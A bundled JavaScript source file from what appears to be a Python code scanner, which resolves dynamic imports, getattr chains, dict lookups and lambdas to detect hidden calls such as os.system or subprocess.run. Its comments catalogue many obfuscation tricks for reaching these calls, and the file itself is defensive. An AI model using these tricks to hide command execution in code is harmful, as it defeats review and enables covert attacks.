var SLOT_TARGET2 = /\s*[.[]/y;
var PY_FALLBACK = /^\(|\b(?:or|and|if)\b/;
var stringConstant = (source, value) => STRING_VALUE.has(value.type) || value.type === "call" && JOINED_LITERAL.test(source.slice(value.startIndex, value.startIndex + 80));
var STRING_VALUE = /* @__PURE__ */ new Set(["string", "concatenated_string", "binary_operator", "parenthesized_expression"]);
var JOINED_LITERAL = /^[rRuU]?(?:'[^'\n]{0,16}'|"[^"\n]{0,16}")\s*\.\s*join\s*\(/;
var DYNAMIC_TEXT = /\b(?:import_module|__import__|resolve_name|module_from_spec|exec_module|loader\s*\.\s*load_module)\b/;
var IMPORTER_ALIAS = /^[ \t]*(?:from[ \t]+(?:importlib|builtins|pkgutil)[ \t]+import[ \t]+[^\n#]*?\b(import_module|__import__|resolve_name)[ \t]+as[ \t]+([A-Za-z_]\w*)|([A-Za-z_]\w*)[ \t]*=[ \t]*(?:(?:importlib|builtins|__builtins__|pkgutil)[ \t]*\.[ \t]*)?(import_module|__import__|resolve_name)[ \t]*(?:#.*)?$)/gm;
var NO_IMPORTERS = /* @__PURE__ */ new Map();
function importerAliases(source) {
  return new Map([...source.matchAll(IMPORTER_ALIAS)].map((m) => [m[2] ?? m[3], m[1] ?? m[4]]));
}
var LOADED_MODULE_TEXT = /\bmodules\s*(?:\[|\.\s*(?:get|setdefault)\s*\()/;
var DYNAMIC_WORDS = ["import_module", "__import__", "resolve_name", "module_from_spec", "exec_module", "loader", "modules"];
function carriedArguments(name2, call2) {
  const list = call2.childForFieldName("arguments");
  const args2 = list?.type === "argument_list" ? namedChildrenOf(list) : list ? [list] : [];
  const positional = args2.filter((arg) => arg.type !== "keyword_argument" && arg.type !== "comment");
  if (positional.length === 0 || positional.some((arg) => arg.type === "list_splat" || arg.type === "dictionary_splat")) return void 0;
  if (name2 === "zip") return positional;
  const keywords = args2.length - positional.length > 0;
  const read = name2 === "enumerate" ? positional.length <= 2 : positional.length === 1 && (!keywords || name2 === "sorted");
  return read ? [positional[0]] : void 0;
}
function indexedElements(sequence) {
  if (!sequence?.properties) return void 0;
  const elements = /* @__PURE__ */ new Map();
  for (const key of Object.keys(sequence.properties)) if (key === EVERY_INDEX || ARRAY_INDEX.test(key)) elements.set(key, extend(sequence, key));
  return elements.size ? elements : void 0;
}
function writtenArguments(call2) {
  const args2 = namedChildrenOf(call2);
  const spread = args2.length === 1 && args2[0].type === "list_splat" ? namedChildrenOf(args2[0])[0] : void 0;
  return spread?.type === "list" || spread?.type === "tuple" ? namedChildrenOf(spread) : args2;
}
function unwrap2(node) {
  let n = node;
  for (let inner = namedChildrenOf(n); n.type === "parenthesized_expression" && inner.length === 1; inner = namedChildrenOf(n)) n = inner[0];
  return n;
}
var Resolver2 = class {
  constructor(bindings, filter, source, constants, importers = NO_IMPORTERS, deadline, unwatched = NO_IMPORTERS) {
    this.bindings = bindings;
    this.filter = filter;
    this.source = source;
    this.constants = constants;
    this.importers = importers;
    this.deadline = deadline;
    this.unwatched = unwatched;
  }
  bindings;
  filter;
  source;
  constants;
  importers;
  deadline;
  unwatched;
  resolve(node, text = node.text, depth = 0) {
    if (depth === 0) this.deadline?.check();
    if (depth > MAX_RESOLVE_DEPTH) return void 0;
    if (MATCH_CAPTURES.has(node.type)) return this.matched(node, depth);
    const chain = simpleChain(text);
    if (chain && !chain.includes(SELF)) {
      const path2 = chainPath(this.bindings, chain[0] === "self" && chain[1] === CLASS_ATTRIBUTE ? ["cls", ...chain.slice(2)] : chain, node);
      return this.classMember(path2) ?? (path2?.module === FILE_CLASS && chain.length > 1 ? this.bindings.slotPath(chain) : void 0);
    }
    switch (node.type) {
      case "attribute": {
        const slot = this.slot(node) ?? this.classSlot(node);
        if (slot) return this.classMember(slot);
        const object = node.childForFieldName("object");
        const attribute = node.childForFieldName("attribute");
        const base = object && this.resolve(object, object.text, depth + 1);
        if (base?.module === OWN_MODULE2 && attribute) return this.ownGlobal(base, attribute.text, node);
        if (attribute?.text === SELF && base && !base.properties && !base.returns && base.members.length > 0) return through({ ...base, members: base.members.slice(0, -1) }, node);
        return base && attribute ? this.classMember(extend(base, attribute.text)) : void 0;
      }
      case "subscript":
        return this.slot(node) ?? this.loadedModule(node) ?? this.namespaceEntry(node, depth) ?? this.writtenEntry(node, depth) ?? this.anyEntry(node.childForFieldName("value"), node.childForFieldName("subscript")) ?? this.dictEntry(node.childForFieldName("value"), node.childForFieldName("subscript"), depth);
      case "parenthesized_expression": {
        const inner = namedChildrenOf(node);
        return inner.length === 1 ? this.resolve(inner[0], inner[0].text, depth + 1) : void 0;
      }
      // `(session or requests).get(u)`, `a if c else b`: either side may be the one called. `a and b` is `b` when `a` is
      // truthy, and `a` only when falsy, which no watched value is (a module, a function, a class, a client).
      case "boolean_operator":
      case "conditional_expression": {
        const and = node.type === "boolean_operator" && node.childForFieldName("operator")?.type === "and";
        for (const side of and ? [node.childForFieldName("right")] : node.namedChildren) {
          const path2 = side && this.resolve(side, side.text, depth + 1);
          if (path2) return path2;
        }
        return void 0;
      }
      // `{"r": subprocess.run}["r"]`: a dict (list, tuple, set; `a, b` unparenthesized) written in place is read as a name holding it is (heldContainer).
      case "dictionary":
      case "list":
      case "tuple":
      case "set":
      case "expression_list":
        return heldContainer(this.containerEntries(node, depth));
      // `[x for x in [os.system]]`: what its element gives, at every index (its loop's names are bound as a loop's: analysis.ts unpacked).
      case "list_comprehension":
      case "set_comprehension":
      case "generator_expression": {
        const element = node.childForFieldName("body");
        const path2 = element ? this.resolve(element, element.text, depth + 1) : void 0;
        return path2 && heldLiteral([[EVERY_INDEX, path2]]);
      }
      // `@deco def run(): \u2026`: what the decorator returns given the function (a factory's value: `def deco(fn): return os.system`).
      case "decorator": {
        const expression = namedChildrenOf(node)[0];
        return called(expression && this.resolve(expression, expression.text, depth + 1), node);
      }
      // `await make()` of an `async def make(): return os.system`: the value the coroutine returns.
      case "await": {
        const awaited = node.namedChild(0);
        return awaited ? this.resolve(awaited, awaited.text, depth + 1) : void 0;
      }
      // `(f := os.system)(\u2026)`: the value assigned.
      case "named_expression": {
        const value = node.childForFieldName("value");
        return value ? this.resolve(value, value.text, depth + 1) : void 0;
      }
      // `{k: v for k, v in {"r": os.system}.items()}`: what its value gives, under every key.
      case "dictionary_comprehension": {
        const copied = this.namespaceCopied(node, depth);
        if (copied) return copied;
        const value = node.childForFieldName("body")?.childForFieldName("value");
        const path2 = value ? this.resolve(value, value.text, depth + 1) : void 0;
        return path2 && heldLiteral([[EVERY_KEY, path2]]);
      }
      case "call":
        return this.ofCall(node, depth);
      // A lambda that is a factory (factories.ts placedFunction: `{"make": lambda: os}`): its value, flagged `returns`.
      case "lambda":
        return this.bindings.returnedBy(node.startIndex);
      default:
        return void 0;
    }
  }
  /** What a definition's target gets: its value, or with `steps` what it is unpacked to from it (analysis.ts unpacked). */
  assigned(value, steps) {
    const path2 = this.resolve(value);
    return steps ? path2 && this.unpacked(path2, steps, 0) : path2;
  }
  /**
   * A held sequence's value unpacked along `steps` from `at`: an index its element; ELEMENT each element in turn (the
   * first that gives a value on, as a loop's variable is each); a star's range the list of those elements, indexed from
   * 0. A sequence's elements are its indices: a dict's keys are no values (a loop over a dict gets its keys).
   */
  unpacked(path2, steps, at) {
    if (at === steps.length) return path2.module === NOTHING ? void 0 : path2;
    if (!path2.properties) return void 0;
    const step = steps[at];
    if (typeof step === "number") return this.unpacked(extend(path2, String(step)), steps, at + 1);
    const indices = Object.keys(path2.properties).filter((key) => key === EVERY_INDEX || ARRAY_INDEX.test(key));
    if (step === ELEMENT) {
      for (const index of indices) {
        this.deadline?.check();
        const value = this.unpacked(extend(path2, index), steps, at + 1);
        if (value) return value;
      }
      return void 0;
    }
    const taken = indices.filter((index) => index === EVERY_INDEX || Number(index) >= step.from && (step.to === void 0 || Number(index) < step.to));
    const list = heldLiteral(taken.map((index) => [index === EVERY_INDEX ? index : String(Number(index) - step.from), extend(path2, index)]));
    return list && this.unpacked(list, steps, at + 1);
  }
  /**
   * `match {"r": os.system}:` \u2026 `case {"r": f}:`, `match [os.system]: case [f]:`, `match os: case object(system=f):`: what
   * the pattern captures of the subject (matchedAt), a literal written there read as a name holding it is.
   */
  matched(capture, depth) {
    const found = matchedAt(capture);
    if (!found || found.subjects.length === 0) return void 0;
    const keys = [...found.keys];
    const chosen = found.subjects.length === 1 ? found.subjects : keys.length === 0 ? [] : ((key) => key === void 0 ? found.subjects : found.subjects.slice(Number(key), Number(key) + 1))(keys.shift());
    for (const subject of chosen) {
      let path2 = this.resolve(subject, subject.text, depth + 1);
      for (const key of keys) path2 = path2 && extend(path2, key ?? (path2.properties ? ANY_ENTRY : ANY));
      if (path2) return path2;
    }
    return void 0;
  }
  /** The first base class that resolves (`class Wrapper(openai.DefaultHttpxClient)`). */
  firstBase(bases) {
    for (const base of bases.namedChildren) {
      if (!base || base.type !== "identifier" && base.type !== "attribute") continue;
      const path2 = this.resolve(base);
      if (path2) return path2;
    }
    return void 0;
  }
  /**
   * Is the call of `fn` (its `function`) an importer (or a name resolver) given a name the scan cannot read (`__import__(name)`,
   * `import_module(b64decode(\u2026))`)? A relative name (a string or f-string starting with `.`) names a module of the
   * package, which is judged on its own, and is not one.
   */
  unreadLoad(fn) {
    const name2 = fn.text.replace(/\s+/g, "");
    if (SPEC_RUN.test(name2) || SPEC_LOADERS.has(name2) && this.builtIn(name2, fn)) return this.loadsUnreadSpec(fn, name2);
    const loads2 = this.importers.get(name2) !== void 0 || (IMPORTERS.has(name2) || NAME_RESOLVERS.has(name2)) && this.builtIn(name2, fn) || this.importerReached(fn, 0) !== void 0;
    if (!loads2) return false;
    const first = namedChildrenOf(fn.parent)[0];
    if (!first || first.type === "keyword_argument") return false;
    const literal = first.type === "string" && !first.namedChildren.some((part) => part?.type === "interpolation");
    return !literal && this.constants.stringOf(first) === void 0 && !RELATIVE_NAME.test(first.text) && !this.unwatchedLoopName(first);
  }
  /**
   * An importer reached other than by its name (`builtins.__dict__["__import__"]`, `getattr(builtins, "__import__")`,
   * `vars(importlib)["import_module"]`, a name holding one of these): the importer it is, as IMPORTERS names it, when the
   * callee resolves to one.
   */
  importerReached(fn, depth) {
    const held = fn.type === "identifier" && this.bindings.names.has(fn.text);
    if (!held && (fn.type !== "subscript" && fn.type !== "call" || !IMPORTER_WORD.test(fn.text))) return void 0;
    const path2 = this.resolve(fn, fn.text, depth + 1);
    const name2 = path2 && !path2.properties ? [path2.module, ...path2.members].join(".") : void 0;
    return name2 !== void 0 && IMPORTERS.has(name2) ? name2 : void 0;
  }
  /** `module_from_spec(spec)`, `spec.loader.exec_module(m)`: is the spec one of a module named at run time (UNREAD_SPEC)? */
  loadsUnreadSpec(fn, name2) {
    const spec = SPEC_RUN.test(name2) ? fn.childForFieldName("object")?.childForFieldName("object") : namedChildrenOf(fn.parent)[0];
    return spec ? this.resolve(spec)?.module === UNREAD_SPEC : false;
  }
  /**
   * `for package in ("urllib3", "idna"): __import__(package)`: a loop variable over a tuple or list of string constants
   * the scan reads, none of them a module it watches.
   */
  unwatchedLoopName(name2) {
    if (name2.type !== "identifier") return false;
    for (let node = name2.parent; node; node = node.parent) {
      if (node.type !== "for_statement" || node.childForFieldName("left")?.text !== name2.text) continue;
      const values = node.childForFieldName("right");
      if (values?.type !== "tuple" && values?.type !== "list") return false;
      const names = namedChildrenOf(values).map((value) => this.constants.stringOf(value));
      return names.every((module2) => module2 !== void 0 && !this.filter.relevant(module2.split(".")[0]));
    }
    return false;
  }
  /**
   * Is the dotted `name` called at `fn` the standard one, its first name not bound here to something else? `import
   * importlib` binds the module itself (watched for its loaders), which does not hide it; `from importlib.util import
   * find_spec` binds the standard one.
   */
  builtIn(name2, fn) {
    const root = name2.split(".")[0];
    if (!this.declared(root, fn)) return true;
    const bound = this.bindings.lookup(root, fn);
    return bound?.module === root || bound !== void 0 && [bound.module, ...bound.members].join(".") === `importlib.util.${name2}`;
  }
  /**
   * `operator.methodcaller("system", cmd)(os)`: the call made by the function `callee` returns is `os.system(cmd)`, the
   * method of the outer call's argument (a name not known here could be any member, as for getattr).
   */
  methodCalled(callee) {
    const maker = callee.type === "call" ? callee.childForFieldName("function") : null;
    const makerName = maker?.text.replace(/\s+/g, "");
    const object = callee.parent?.type === "call" ? namedChildrenOf(callee.parent)[0] : void 0;
    if (!maker || !makerName || !object || !METHOD_CALLERS.has(makerName) || this.declared(makerName.split(".")[0], maker)) return void 0;
    const base = this.resolve(object, object.text);
    return base && through(extend(base, this.constants.stringOf(namedChildrenOf(callee)[0]) ?? ANY), callee);
  }
  /**
   * `pydoc.locate("os.system")`, `BaseConfigurator({}).resolve("os.system")`, `EntryPoint(n, "os:system", g).load()`: the
   * member a name resolver's constant name names (specs.ts Evaluator `name`; a name not constant is scan/dynamic-code there).
   */
  nameResolved(fn, args2, depth) {
    if (!NAME_RESOLVER_CALL.test(fn.text)) return void 0;
    const made = fn.type === "attribute" ? fn.childForFieldName("object") : null;
    const maker = made?.type === "call" ? made.childForFieldName("function") : null;
    for (const [callee, given2, loaded] of [[fn, args2, void 0], [maker, made ? writtenArguments(made) : [], fn.childForFieldName("attribute")?.text]]) {
      const path2 = callee && this.resolve(callee, callee.text, depth + 1);
      const evaluator = path2 && !path2.properties ? this.filter.evaluator(path2, "call") : void 0;
      if (evaluator?.reads !== "name" || evaluator.loadedBy !== loaded) continue;
      const [top, ...members] = namedArgument(given2, evaluator.subject, this.constants)?.split(/[.:]/) ?? [];
      return top && this.filter.relevant(top) ? { module: top, members } : void 0;
    }
    return void 0;
  }
  /** `getattr(m, "x")`, `importlib.import_module("m")`, `__import__("m")`, or what a client constructor returns. */
  ofCall(node, depth) {
    const fn = node.childForFieldName("function");
    const args2 = writtenArguments(node);
    if (!fn) return void 0;
    const name2 = fn.text.replace(/\s+/g, "");
    if (CARRIERS.has(name2) && !this.bindings.declared(name2, fn)) return this.carried(name2, node, depth);
    if (this.builtinFunction(name2, fn, "getattr")) return this.member(args2[0], args2[1], node, depth);
    if (SPEC_FINDERS.has(name2) && this.builtIn(name2, fn)) return this.specFound(args2, node);
    if (SPEC_LOADERS.has(name2) && this.builtIn(name2, fn)) {
      const spec = args2[0] ? this.resolve(args2[0], args2[0].text, depth + 1) : void 0;
      return spec?.members.at(-1) === SPEC ? through({ ...spec, members: spec.members.slice(0, -1) }, node) : void 0;
    }
    if (args2.length === 1 && this.builtinFunction(name2, fn, "vars")) {
      const base2 = this.resolve(args2[0], args2[0].text, depth + 1);
      return base2 && through(extend(base2, NAMESPACE), node);
    }
    const keepsDict = NAMESPACE_COPIERS.get(name2);
    if (keepsDict !== void 0 && args2.length === 1 && this.builtIn(name2, fn)) {
      const copied = args2[0].type === "dictionary_splat" ? namedChildrenOf(args2[0])[0] : args2[0];
      const namespace = this.namespaceItems(copied, depth) ?? (copied && this.resolve(copied, copied.text, depth + 1));
      if (namespace?.members.at(-1) === NAMESPACE) return through(keepsDict ? namespace : { ...namespace, members: namespace.members.slice(0, -1) }, node);
    }
    const held = this.importers.get(name2) ?? this.importerReached(fn, depth);
    if (IMPORTERS.has(name2) && this.builtIn(name2, fn) || held !== void 0 && held !== "resolve_name") {
      const module2 = this.constants.stringOf(args2[0]);
      if (module2 === void 0 || module2.startsWith(".")) return void 0;
      const dotted2 = (held ?? name2).endsWith("__import__") ? module2.split(".")[0] : module2;
      return this.filter.relevant(dotted2) ? through({ module: dotted2, members: [] }, node) : void 0;
    }
    if (NAME_RESOLVERS.has(name2) && this.builtIn(name2, fn) || held === "resolve_name") {
      const [top, ...members] = this.constants.stringOf(args2[0])?.split(/[.:]/) ?? [];
      return top && this.filter.relevant(top) ? through({ module: top, members }, node) : void 0;
    }
    const named2 = this.nameResolved(fn, args2, depth);
    if (named2) return through(named2, node);
    if ((name2 === "functools.reduce" || name2 === "reduce") && !this.declared(name2.split(".")[0], fn) && args2[0] && this.builtinFunction(args2[0].text.replace(/\s+/g, ""), args2[0], "getattr")) return this.reducedMember(args2, node, depth);
    if (fn.type === "call") {
      const getter = fn.childForFieldName("function");
      const getterName = getter?.text.replace(/\s+/g, "");
      if (getter && getterName && ATTRIBUTE_GETTERS.has(getterName) && !this.declared(getterName.split(".")[0], getter)) {
        const base2 = args2[0] ? this.resolve(args2[0], args2[0].text, depth + 1) : void 0;
        return base2 && through(extend(base2, ...(this.constants.stringOf(namedChildrenOf(fn)[0]) ?? ANY).split(".")), node);
      }
      if (getterName === "operator.itemgetter" && args2[0] && !this.declared("operator", getter)) {
        const key = namedChildrenOf(fn)[0];
        const entry2 = this.namespaceMember(args2[0], key, node, depth) ?? this.dictEntry(args2[0], key, depth);
        return entry2 && through(entry2, node);
      }
    }
    const inPlace = unwrap2(fn);
    if (inPlace.type === "lambda") {
      let body2 = inPlace.childForFieldName("body");
      let calls = 0;
      for (; body2?.type === "lambda" && calls < MAX_HANDED_DEPTH; calls++) body2 = body2.childForFieldName("body");
      const value = body2 ? this.givenValue(inPlace, args2, body2, depth) ?? this.resolve(body2, body2.text, depth + 1) : void 0;
      return value && through(calls ? { ...value, returns: (value.returns ?? 0) + calls } : value, node);
    }
    const method = fn.type === "attribute" ? fn.childForFieldName("attribute")?.text : void 0;
    const owner = fn.type === "attribute" ? fn.childForFieldName("object") : null;
    if (method === "__getattribute__" && owner) return args2.length === 2 ? this.member(args2[0], args2[1], node, depth) : this.member(owner, args2[0], node, depth);
    if (method === "copy" && owner && args2.length === 0) {
      const namespace = this.resolve(owner, owner.text, depth + 1);
      if (namespace?.members.at(-1) === NAMESPACE) return through(namespace, node);
    }
    if (name2 === "importlib.reload" && this.builtIn(name2, fn)) return args2[0] ? this.resolve(args2[0], args2[0].text, depth + 1) : void 0;
    if (method === "get" && owner) {
      const named3 = owner.type === "call" ? this.scopeEntry(owner, args2[0], node) : this.loadedModule(node, owner, args2[0]);
      if (named3) return named3;
    }
    if (method === "setdefault" && owner) {
      const loaded = this.loadedModule(node, owner, args2[0]);
      if (loaded) return loaded;
    }
    if (method === "pop" && owner && args2.length === 0) {
      const held2 = this.resolve(owner, owner.text, depth + 1);
      const elements = owner.type === "list" ? namedChildrenOf(owner) : void 0;
      if (held2?.properties) return through(extend(held2, elements && !elements.some((e) => e.type === "list_splat") ? String(elements.length - 1) : ANY_ENTRY), node);
    }
    if ((method === "items" || method === "values") && owner && args2.length === 0) {
      const entries = this.dictEntries(owner, method === "items", depth);
      if (entries) return through(entries, node);
    }
    const entry = method !== void 0 && DICT_READERS.has(method) ? this.dictEntry(owner, args2[0], depth) : void 0;
    if (entry) return through(entry, node);
    if (UNBOUND_ENTRY_READERS.has(name2) && args2.length >= 2 && !this.declared(name2.split(".")[0], fn)) {
      const entry2 = this.namespaceMember(args2[0], args2[1], node, depth) ?? this.dictEntry(args2[0], args2[1], depth);
      return entry2 && through(entry2, node);
    }
    const base = this.resolve(fn, fn.text, depth + 1);
    if (!base) return this.offeredInstance(fn, node) ?? this.containerGet(fn, args2, node);
    if (base.members.at(-2) === NAMESPACE && ENTRY_READERS.has(base.members.at(-1))) return through(extend({ ...base, members: base.members.slice(0, -2) }, this.constants.stringOf(args2[0]) ?? ANY), node);
    const dotted = !base.returns && FINDER_MODULE.test(base.module) ? [base.module, ...base.members].join(".") : void 0;
    if (dotted === "importlib.util.find_spec") return this.specFound(args2, node);
    if (dotted !== void 0 && (PATH_SPEC_FINDERS.has(dotted) || dotted === PATH_FINDER && args2.length > 1)) return through({ module: UNREAD_SPEC, members: [] }, node);
    if (dotted !== void 0 && PATH_FINDER_MAKERS.has(dotted)) return extend(base, RETURNED);
    if (base.members.length >= 3 && base.members.at(-3) === SPEC && base.members.at(-2) === "loader" && base.members.at(-1) === "load_module") return through({ ...base, members: base.members.slice(0, -3) }, node);
    if (base.returns) return called(base, node);
    if (base.module === FILE_CLASS) return base.members.length === 0 ? extend(base, RETURNED) : void 0;
    return this.filter.returnsWatched(base) ? extend(base, RETURNED) : void 0;
  }
  /**
   * A lambda's `body` read as a member of a parameter given an argument (`(lambda m: m.system)(os)`: `os.system`), else
   * undefined: a parameter given by position, before any `*` or keyword argument.
   */
  givenValue(lambda, args2, body2, depth) {
    const members = [];
    let root = body2;
    while (root.type === "attribute") {
      const object = root.childForFieldName("object");
      if (!object) return void 0;
      members.unshift(root.childForFieldName("attribute")?.text ?? "");
      root = object;
    }
    if (root.type !== "identifier") return void 0;
    const position = namedChildrenOf(lambda.childForFieldName("parameters")).findIndex((parameter) => parameter.type === "identifier" && parameter.text === root.text);
    const given2 = position >= 0 && args2.slice(0, position + 1).every((arg) => !UNPOSITIONED.has(arg.type)) ? args2[position] : void 0;
    const path2 = given2 && this.resolve(given2, given2.text, depth + 1);
    return path2 && extend(path2, ...members);
  }
  /**
   * `{"r": os.system}.items()`, `.values()`, of a dict held or written in place: its (key, value) pairs, or its values, as
   * a sequence a loop reads (a key is no value). Of a module's namespace (`vars(os).items()`), any member of the module.
   */
  dictEntries(dict, pairs, depth) {
    const held = this.resolve(dict, dict.text, depth + 1);
    const entry = (value) => pairs ? heldLiteral([["1", value]]) : value;
    if (held?.members.at(-1) === NAMESPACE && !held.properties) return heldLiteral([[EVERY_INDEX, entry(extend({ ...held, members: held.members.slice(0, -1) }, ANY))]]);
    if (!held?.properties) return void 0;
    const keys = Object.keys(held.properties).filter((key) => key !== ANY_ENTRY);
    return heldLiteral(keys.map((key, i2) => [String(i2), entry(key === NAMESPACE_ENTRY || key.startsWith(EARLIER_NAMESPACE) ? extend(held.properties[key], ANY) : extend(held, key))]));
  }
  /**
   * `functools.reduce(getattr, ["system"], os)`, `reduce(getattr, [os, "system"])`: the member the names read from the
   * module, one after another; names not written out as constants could be any member (as for getattr).
   */
  reducedMember(args2, site, depth) {
    const sequence = args2[1];
    const written = sequence?.type === "list" || sequence?.type === "tuple" ? namedChildrenOf(sequence) : void 0;
    const start3 = args2.length >= 3 ? args2[2] : written?.[0];
    const base = start3 ? this.resolve(start3, start3.text, depth + 1) : void 0;
    if (!base) return void 0;
    const names = written?.slice(args2.length >= 3 ? 0 : 1).map((name2) => this.constants.stringOf(name2));
    return through(extend(base, ...names && !names.includes(void 0) ? names : [ANY]), site);
  }
  /**
   * Is `name` declared (a module name, a parameter or local) where `node` is? Not by an import of a module not watched
   * (UnwatchedImport): `import sys`, `from functools import reduce` bind the standard ones the name is read as undeclared.
   */
  declared(name2, node) {
    if (!this.bindings.declared(name2, node)) return false;
    if (!this.unwatched.has(name2)) return true;
    const path2 = this.bindings.lookup(name2, node);
    return !(path2 && path2.members.length === 0 && this.unwatched.get(name2) === path2.module);
  }
  /** Is `name` called at `fn` the built-in function `bare`, bare (not bound here) or as `builtins.getattr`, `__builtins__.getattr`? */
  builtinFunction(name2, fn, bare) {
    if (name2 === bare) return !this.declared(bare, fn);
    return (name2 === `builtins.${bare}` || name2 === `__builtins__.${bare}`) && this.builtIn(name2, fn);
  }
  /** What `find_spec(\u2026)` given `args` returns: the spec of the watched module it names, or of a module named at run time (UNREAD_SPEC). */
  specFound(args2, node) {
    const module2 = args2[0] && args2[0].type !== "keyword_argument" ? this.constants.stringOf(args2[0]) : void 0;
    if (module2 === void 0) return args2[0] && !RELATIVE_NAME.test(args2[0].text) ? through({ module: UNREAD_SPEC, members: [] }, node) : void 0;
    return this.filter.relevant(module2) ? through({ module: module2, members: [SPEC] }, node) : void 0;
  }
  /** `d.get("run")` of a container slot (`d = {"run": subprocess.run}`): the slot `d.run` (asked when `d.get` itself is nothing). */
  containerGet(fn, args2, node) {
    if (fn.type !== "attribute" || fn.childForFieldName("attribute")?.text !== "get") return void 0;
    const object = fn.childForFieldName("object");
    const container = object ? this.slotKey(object) : void 0;
    const key = container !== void 0 ? this.literalKey(args2[0] ?? null) : void 0;
    const slot = key !== void 0 ? this.bindings.slotPath([...container.split("."), key]) : this.anyEntry(object, args2[0]);
    return slot && through(slot, node);
  }
  /**
   * `RUNNERS[kind]`, `RUNNERS.get(kind)`: a container literal held by a name of the module's scope, read by a key no
   * constant of the file spells, is its first watched value (as `a or b` is); a constant key names its slot or nothing.
   * A parameter or local of the name hides it.
   */
  anyEntry(container, key) {
    if (container?.type !== "identifier" && container?.type !== "attribute" || !key || this.constantKey(key)) return void 0;
    const chain = this.slotKey(container)?.split(".");
    const entry = chain && !this.bindings.slotPath(chain) ? this.bindings.slotPath([...chain, ANY_ENTRY]) : void 0;
    return entry && this.bindings.fileScoped(chain[0], container) ? entry : void 0;
  }
  /**
   * `opts["sh"]`, `opts.get("sh")` of a parameter given a dict literal (`go({"sh": subprocess.run})`), or of a name holding
   * one (heldLiteral: also `l[0]`): the entry a constant key names, else nothing; a key no constant spells reads a held
   * literal's first watched value (ANY_ENTRY), as anyEntry does a module-level one's.
   */
  dictEntry(dict, key, depth) {
    const base = dict && key ? this.resolve(dict, dict.text, depth + 1) : void 0;
    if (!base?.properties) return void 0;
    const name2 = key.type === "integer" ? key.text : this.constants.stringOf(key) ?? (this.constantKey(key) ? void 0 : ANY_ENTRY);
    return name2 !== void 0 ? this.spreadMember(base, name2) ?? extend(base, name2) : void 0;
  }
  /**
   * `{**vars(os), **vars(socket)}["system"]`: a key no entry of the dict holds is a member of the last namespace spread
   * in it that has one. Which has it is not known here, only which members the rules watch: the last whose member may
   * cross (fail closed), else the last (extend reads it).
   */
  spreadMember(dict, name2) {
    const properties = dict.properties;
    if (name2 === ANY_ENTRY || Object.hasOwn(properties, name2) || !Object.hasOwn(properties, NAMESPACE_ENTRY)) return void 0;
    const spread = [NAMESPACE_ENTRY, ...Object.keys(properties).filter((key) => key.startsWith(EARLIER_NAMESPACE)).reverse()];
    if (spread.length === 1) return void 0;
    for (const key of spread) {
      const namespace = properties[key];
      const member = extend({ ...namespace, via: [...dict.via ?? [], ...namespace.via ?? []].slice(0, MAX_HOPS) }, name2);
      if (this.filter.reachesCrossing(member)) return member;
    }
    return void 0;
  }
  /** A key written as a literal (a string without `{\u2026}`, a number, `-1`, `True`, `None`) or a string constant of the file. */
  constantKey(key) {
    const literal = key.type === "unary_operator" ? key.namedChild(0) : key;
    if (literal && LITERAL_KEYS.has(literal.type)) return true;
    return key.type === "string" ? !key.namedChildren.some((part) => part?.type === "interpolation") : this.constants.stringOf(key) !== void 0;
  }
  /**
   * A member of a class of the file is its `cls.X` slot, a member of an instance of one (`Runner().run`, `r.run` after
   * `r = Runner()`) its `self.X` slot: per file, as the slots are, whichever class of the file assigned them.
   */
  classMember(path2) {
    if (path2?.module === PROJECT_INSTANCE) return path2.members.at(-1) === PROTOTYPE ? path2 : this.heldBy(path2, this.bindings.slotPath(path2.members));
    if (path2?.module !== FILE_CLASS || path2.members.length === 0) return path2;
    const instance2 = path2.members[0] === RETURNED;
    if (instance2 && path2.members.length === 1) return path2;
    return this.heldBy(path2, this.bindings.slotPath(instance2 ? ["self", ...path2.members.slice(1)] : ["cls", ...path2.members]));
  }
  /** A member's slot reached through the class or instance `path` is (its steps first). */
  heldBy(path2, slot) {
    return slot && { ...slot, via: [...path2.via ?? [], ...slot.via ?? []].slice(0, MAX_HOPS) };
  }
  /**
   * What a builtin that carries the values of iterables on (CARRIERS) gives: `list(xs)`, `tuple(xs)`, `iter(xs)` each
   * element at its index; `sorted(xs)`, `reversed(xs)` each at any index; `enumerate(xs)` each as the second of a pair
   * at its index; `zip(xs, ys)` a tuple at each index of each iterable's element there.
   */
  carried(name2, call2, depth) {
    const iterables = carriedArguments(name2, call2)?.map((arg) => indexedElements(this.resolve(arg, arg.text, depth + 1)));
    if (!iterables?.some((elements) => elements)) return void 0;
    const [first] = iterables;
    if (name2 === "zip") {
      const indices = new Set(iterables.flatMap((elements) => elements ? [...elements.keys()] : []));
      return heldLiteral([...indices].flatMap((index) => {
        const tuple = heldLiteral(iterables.flatMap((elements, k) => {
          const element = elements && (elements.get(index) ?? elements.get(EVERY_INDEX));
          return element ? [[String(k), element]] : [];
        }));
        return tuple ? [[index, tuple]] : [];
      }));
    }
    if (!first) return void 0;
    if (name2 === "enumerate") return heldLiteral([...first].map(([index, element]) => [index, heldLiteral([["1", element]])]));
    return heldLiteral([...first].map(([index, element]) => [name2 === "sorted" || name2 === "reversed" ? EVERY_INDEX : index, element]));
  }
  /**
   * Does the builtin `call` only carry `arg` (an argument it is written with) on to what gets its result (CARRIERS)? Asked
   * once the bindings are final (callsOf), so each call's answer is kept: a literal of thousands of values is read once.
   */
  carries(call2, arg) {
    let carried = this.carriedBy.get(call2.id);
    if (carried === void 0) {
      const fn = call2.childForFieldName("function");
      const name2 = fn?.text.replace(/\s+/g, "");
      const args2 = name2 !== void 0 && CARRIERS.has(name2) && !this.bindings.declared(name2, fn) ? carriedArguments(name2, call2) : void 0;
      carried = new Set(args2 && this.resolve(call2) !== void 0 ? args2.map((node) => node.id) : []);
      this.carriedBy.set(call2.id, carried);
    }
    return carried.has(arg.id);
  }
  carriedBy = /* @__PURE__ */ new Map();
  /** `K()` of `from a import K`, `a.K()` of `import a`: an instance of a class whose instances' members another project file offers (`K.prototype.run`). */
  offeredInstance(fn, node) {
    if (this.bindings.instanceOwners.size === 0) return void 0;
    const chain = simpleChain(fn.text);
    return chain && this.bindings.instanceOwners.has(chain.join(".")) && !this.bindings.declared(chain[0], fn) ? through({ module: PROJECT_INSTANCE, members: [...chain, PROTOTYPE] }, node) : void 0;
  }
  /** `getattr(os, "system")`, `vars(os)["system"]`: the member of `object` named by `name`, reached through `site`. */
  member(object, name2, site, depth) {
    const base = object ? this.resolve(object, object.text, depth + 1) : void 0;
    const member = this.constants.stringOf(name2);
    if (base?.module === OWN_MODULE2) return member !== void 0 ? this.ownGlobal(base, member, site) : void 0;
    return base && through(extend(base, member ?? ANY), site);
  }
